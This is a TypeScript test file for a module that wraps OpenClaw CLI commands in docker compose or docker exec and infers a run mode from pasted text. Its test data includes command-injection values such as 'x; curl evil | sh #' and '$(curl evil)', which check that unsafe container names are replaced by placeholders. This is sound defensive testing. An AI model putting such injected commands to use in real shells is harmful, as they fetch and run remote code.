import { execFileSync } from 'node:child_process';
import { describe, expect, it } from 'vitest';
import { DEFAULT_COMPOSE_SERVICE, inRunMode, isContainerMode, parseRunMode, recreateCommand, runModeFromText, type RunMode } from './run-mode';

const COMPOSE: RunMode = { kind: 'compose', service: DEFAULT_COMPOSE_SERVICE };
const CONTAINER: RunMode = { kind: 'container', name: 'openclaw' };
const HOSTILE_NAMES: unknown[] = ['x; curl evil | sh #', '$(curl evil)', '`id`', 'a b', '-it', '--rm', '', 'a'.repeat(65), 'gw\n', 'ünïcode', 42, null, {}, ['gw']];

describe('parseRunMode', () => {
  it.each([
    [{ kind: 'host' }, { kind: 'host' }],
    [{ kind: 'host', service: 'ignored' }, { kind: 'host' }],
    [{ kind: 'compose', service: 'openclaw-gateway' }, { kind: 'compose', service: 'openclaw-gateway' }],
    [{ kind: 'compose', service: 'gw_1.prod' }, { kind: 'compose', service: 'gw_1.prod' }],
    [{ kind: 'container', name: 'openclaw' }, { kind: 'container', name: 'openclaw' }],
    [{ kind: 'compose' }, { kind: 'compose', service: '<service>' }],
    [{ kind: 'container' }, { kind: 'container', name: '<container>' }],
    [{ kind: 'compose', service: '$(id)' }, { kind: 'compose', service: '<service>' }],
    [{ kind: 'container', name: '-it' }, { kind: 'container', name: '<container>' }],
  ])('%j → %j', (value, expected) => expect(parseRunMode(value)).toEqual(expected));

  it.each([null, undefined, 'host', 'compose', 42, [], {}, { kind: 'docker' }, { kind: 'constructor' }, { kind: '__proto__' }, Object.create(null)])(
    'not a run mode: %j',
    (value) => expect(parseRunMode(value)).toBeNull(),
  );

  it('isContainerMode', () => {
    expect(isContainerMode(COMPOSE)).toBe(true);
    expect(isContainerMode(CONTAINER)).toBe(true);
    expect(isContainerMode({ kind: 'host' })).toBe(false);
    expect(isContainerMode(null)).toBe(false);
    expect(isContainerMode({ kind: 'podman' })).toBe(false);
  });
});

describe('inRunMode', () => {
  it.each([
    // [command, mode, expected]
    ['openclaw devices approve r-42', COMPOSE, 'docker compose exec openclaw-gateway openclaw devices approve r-42'],
    ['openclaw devices approve r-42', CONTAINER, 'docker exec -it openclaw openclaw devices approve r-42'],
    ['openclaw devices approve r-42', { kind: 'compose', service: 'gw' }, 'docker compose exec gw openclaw devices approve r-42'],
    ['openclaw gateway auth-token --show', COMPOSE, 'docker compose exec openclaw-gateway openclaw gateway auth-token --show'],
    ['openclaw gateway restart', COMPOSE, 'docker compose restart openclaw-gateway'],
    ['openclaw gateway restart', CONTAINER, 'docker restart openclaw'],
    ['openclaw gateway status', COMPOSE, 'docker compose exec openclaw-gateway openclaw gateway status'],
    [
      'openclaw doctor --generate-gateway-token && openclaw gateway restart',
      COMPOSE,
      'docker compose exec openclaw-gateway openclaw doctor --generate-gateway-token && docker compose restart openclaw-gateway',
    ],
    [
      'openclaw config set gateway.auth.password <password> && openclaw gateway restart',
      CONTAINER,
      'docker exec -it openclaw openclaw config set gateway.auth.password <password> && docker restart openclaw',
    ],
    [`openclaw config set gateway.controlUi.allowedOrigins '["https://gw.example"]'`, COMPOSE, `docker compose exec openclaw-gateway openclaw config set gateway.controlUi.allowedOrigins '["https://gw.example"]'`],
    // Commands that are not the CLI's stay as they are.
    ['ssh -N -L 18789:127.0.0.1:18789 <user>@gw.lan', COMPOSE, 'ssh -N -L 18789:127.0.0.1:18789 <user>@gw.lan'],
    ['docker compose down && docker compose up -d', COMPOSE, 'docker compose down && docker compose up -d'],
    // Only the exact restart becomes a container restart.
    ['openclaw gateway restart --force', COMPOSE, 'docker compose exec openclaw-gateway openclaw gateway restart --force'],
  ] as [string, RunMode, string][])('%s in %j', (command, mode, expected) => expect(inRunMode(command, mode)).toBe(expected));

  it.each([undefined, null, { kind: 'host' }, { kind: 'podman' }, 'compose', 42])('unchanged with no container mode: %j', (mode) => {
    for (const command of ['openclaw devices list', 'openclaw gateway restart', 'openclaw doctor --generate-gateway-token && openclaw gateway restart']) {
      expect(inRunMode(command, mode)).toBe(command);
    }
  });

  it('a name that does not fit shows as the placeholder, never as text', () => {
    for (const name of HOSTILE_NAMES) {
      const compose = inRunMode('openclaw devices list && openclaw gateway restart', { kind: 'compose', service: name });
      expect(compose).toBe('docker compose exec <service> openclaw devices list && docker compose restart <service>');
      const container = inRunMode('openclaw devices list && openclaw gateway restart', { kind: 'container', name });
      expect(container).toBe('docker exec -it <container> openclaw devices list && docker restart <container>');
    }
  });

  it.skipIf(process.platform === 'win32')('an accepted name is one shell word', () => {
    for (const name of ['openclaw-gateway', 'gw_1.prod', 'A1']) {
      const command = inRunMode('openclaw devices list', { kind: 'compose', service: name });
      const words = execFileSync('sh', ['-c', `for w in ${command}; do printf '%s\\n' "$w"; done`], { encoding: 'utf8' }).trim().split('\n');
      expect(words).toEqual(['docker', 'compose', 'exec', name, 'openclaw', 'devices', 'list']);
    }
  });
});

describe('recreateCommand', () => {
  it.each([
    [COMPOSE, 'docker compose up -d --force-recreate openclaw-gateway'],
    [{ kind: 'compose', service: 'gw' }, 'docker compose up -d --force-recreate gw'],
    [{ kind: 'compose', service: '$(id)' }, 'docker compose up -d --force-recreate <service>'],
    // Another container is recreated the way it was created: no one command fits.
    [CONTAINER, null],
    [{ kind: 'host' }, null],
    [null, null],
    [{ kind: 'podman' }, null],
  ])('%j → %s', (mode, expected) => expect(recreateCommand(mode)).toBe(expected));
});

describe('runModeFromText', () => {
  it.each([
    ['$ docker compose exec openclaw-gateway openclaw devices list', COMPOSE],
    ['docker compose exec -T openclaw-gateway openclaw gateway auth-token --show', COMPOSE],
    ['docker-compose exec --user node claw openclaw devices list', { kind: 'compose', service: 'claw' }],
    ['docker compose -f ~/claw/docker-compose.yml logs -f openclaw-gateway', COMPOSE],
    // The official one-off CLI service runs against the gateway service.
    ['docker compose run --rm openclaw-cli devices list', COMPOSE],
    ['docker compose run --rm gw-cli devices list', { kind: 'compose', service: 'gw-cli' }],
    ['openclaw-gateway-1  | 2026-11-20T10:01:02Z [ws] unauthorized conn=1 reason=token_mismatch', COMPOSE],
    ['my-claw-gateway-2 | [gateway] listening', { kind: 'compose', service: 'my-claw-gateway' }],
    ['docker exec -it openclaw openclaw devices approve', CONTAINER],
    ['docker exec -it -e HOME=/home/node my-claw openclaw devices list', { kind: 'container', name: 'my-claw' }],
    ['sudo docker logs --tail 50 oc1', { kind: 'container', name: 'oc1' }],
    ['I run openclaw-gateway with Docker on a NAS', COMPOSE],
  ] as [string, RunMode][])('%s', (text, mode) => {
    expect(runModeFromText(text)).toEqual(mode);
  });

  it.each([
    'openclaw devices list',
    'the openclaw-gateway process exited', // 2026.4.24's respawned child on a host
    'docker compose up -d',
    'docker exec -it $(curl evil) openclaw devices list',
    'docker compose exec ; openclaw devices list',
    '',
  ])('shows no container: %j', (text) => {
    expect(runModeFromText(text)).toBeNull();
  });

  it('never returns a name that does not fit, and takes linear time on long input', () => {
    expect(runModeFromText(`docker exec -it ${'a'.repeat(100)} openclaw`)).toBeNull();
    const start = performance.now();
    runModeFromText(`docker compose exec ${'-x '.repeat(200_000)}`);
    runModeFromText(`${'docker exec '.repeat(50_000)}`);
    expect(performance.now() - start).toBeLessThan(500);
  });
});
